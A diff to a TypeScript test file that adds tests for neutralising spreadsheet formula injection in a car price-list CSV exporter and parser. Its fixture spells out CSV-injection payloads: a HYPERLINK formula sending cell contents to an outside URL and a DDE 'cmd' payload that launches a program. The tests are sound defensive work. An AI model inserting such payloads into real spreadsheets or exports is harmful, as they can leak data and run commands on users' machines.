@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 
-import { COLUMNS, parsePriceList } from './price-list-csv.js';
+import { catalogVehicle } from '../../test-support/catalog.js';
+import { COLUMNS, exportCsv, neutralizedFile, parsePriceList } from './price-list-csv.js';
 
 const header = COLUMNS.map((c) => c.name);
 const valid: Record<string, string> = {
@@ -129,5 +130,53 @@ describe('price list CSV', () => {
       { row: 2, column: 'trimLevel', message: expect.stringContaining('Zeilenumbrüche') },
       { row: 3, column: 'kmPerYear', message: expect.any(String) },
     ]);
+  });
+
+  describe('formula cells', () => {
+    const hostile = {
+      brand: '=HYPERLINK("https://example.com/?"&A1;"Klick")',
+      model: "+cmd|' /C calc'!A0",
+      trimLevel: '@SUM(1+1)',
+    };
+    const vehicle = (names: { brand: string; model: string; trimLevel: string | null }) =>
+      catalogVehicle('5f0c6a52-1c1b-4b7e-9a55-8d3c1c2f0001', names);
+
+    it('exports them as text, and reads the export back to the same values', () => {
+      const csv = exportCsv([vehicle(hostile)]);
+      const line = csv.split('\n')[1] ?? '';
+      expect(line).toContain(`;"'=HYPERLINK(""https://example.com/?""&A1;""Klick"")";`);
+      expect(line).toContain(`;'+cmd|' /C calc'!A0;'@SUM(1+1);`);
+      const back = parsePriceList(Buffer.from(csv));
+      expect(back.errors).toEqual([]);
+      expect(back.rows[0]?.vehicle).toMatchObject(hostile);
+    });
+
+    it('reads a cell a spreadsheet saved without the apostrophe the same way', () => {
+      const parsed = parsePriceList(
+        file([
+          { ...valid, trimLevel: "'-Line" },
+          { ...valid, trimLevel: '-Line' },
+        ]),
+      );
+      expect(parsed.rows.map((r) => r.vehicle.trimLevel)).toEqual(['-Line', '-Line']);
+    });
+
+    it('keeps numbers numbers and takes no apostrophe off a number', () => {
+      const csv = exportCsv([vehicle({ brand: 'Kia', model: 'EV3', trimLevel: '-12.50' })]);
+      expect(csv.split('\n')[1]).toContain(';Kia;EV3;-12.50;41990.00;');
+      expect(parsePriceList(file([{ ...valid, listPriceGrossEur: "'-5" }])).errors).toEqual([
+        { row: 2, column: 'listPriceGrossEur', message: expect.stringContaining('nicht-negative') },
+      ]);
+    });
+
+    it('neutralises a stored upload when it is downloaded again', () => {
+      const upload = file([{ ...valid, ...hostile }]).toString('utf8');
+      const again = neutralizedFile(upload);
+      expect(again).toContain(`'+cmd|' /C calc'!A0`);
+      expect(again).toContain(`'@SUM(1+1)`);
+      const back = parsePriceList(Buffer.from(again));
+      expect(back.errors).toEqual([]);
+      expect(back.rows[0]?.vehicle).toMatchObject(hostile);
+    });
   });
 });
